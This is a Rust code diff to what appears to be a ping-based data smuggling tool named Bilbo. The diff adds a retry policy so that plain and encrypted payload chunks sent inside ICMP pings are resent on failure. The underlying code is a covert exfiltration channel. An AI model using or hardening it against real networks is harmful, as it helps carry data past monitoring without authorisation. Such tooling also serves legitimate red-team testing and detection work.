@@ -8,6 +8,7 @@ use std::net::IpAddr;
 use std::time::Duration;
 
 use crate::errors::BilboError;
+use crate::net::RetryPolicy;
 
 const CIPHER_BLOCK_SIZE: usize = 16;
 const PING_CHUNK_SIZE: usize = 24;
@@ -19,6 +20,7 @@ pub struct Config {
     timeout: Option<Duration>,
     ttl: Option<u32>,
     ident: Option<u16>,
+    retry: RetryPolicy,
 }
 
 impl Default for Config {
@@ -27,6 +29,7 @@ impl Default for Config {
             timeout: Some(Duration::from_secs(5)),
             ttl: Some(128),
             ident: None,
+            retry: RetryPolicy::default(),
         }
     }
 }
@@ -39,12 +42,22 @@ impl Config {
             timeout,
             ttl,
             ident,
+            retry: RetryPolicy::default(),
         }
     }
+
+    /// Sets the policy for retrying failed pings per failure class.
+    ///
+    pub fn with_retry(mut self, retry: RetryPolicy) -> Self {
+        self.retry = retry;
+        self
+    }
 }
 
 /// Smuggles given payload via ping to the given IP address.
 /// Payload is sent in plain text - u8 buffer as is.
+/// Failed pings are retried according to the config retry policy,
+/// the final failure is classified as BilboError::NetworkError.
 ///
 pub fn ping_plain(addr: IpAddr, payload: &[u8], cfg: &Config) -> Result<(), BilboError> {
     for chunk in payload.chunks(PING_CHUNK_SIZE) {
@@ -56,7 +69,16 @@ pub fn ping_plain(addr: IpAddr, payload: &[u8], cfg: &Config) -> Result<(), Bilb
                 array[i] = chunk[i];
             }
         }
-        ping(addr, cfg.timeout, cfg.ttl, cfg.ident, None, Some(&array))?;
+        cfg.retry.run(|| {
+            Ok(ping(
+                addr,
+                cfg.timeout,
+                cfg.ttl,
+                cfg.ident,
+                None,
+                Some(&array),
+            )?)
+        })?;
     }
     Ok(())
 }
@@ -94,7 +116,16 @@ pub fn ping_cipher(
                 array[i] = chunk[i];
             }
         }
-        ping(addr, cfg.timeout, cfg.ttl, cfg.ident, None, Some(&array))?;
+        cfg.retry.run(|| {
+            Ok(ping(
+                addr,
+                cfg.timeout,
+                cfg.ttl,
+                cfg.ident,
+                None,
+                Some(&array),
+            )?)
+        })?;
     }
     Ok(origin_iv.to_vec())
 }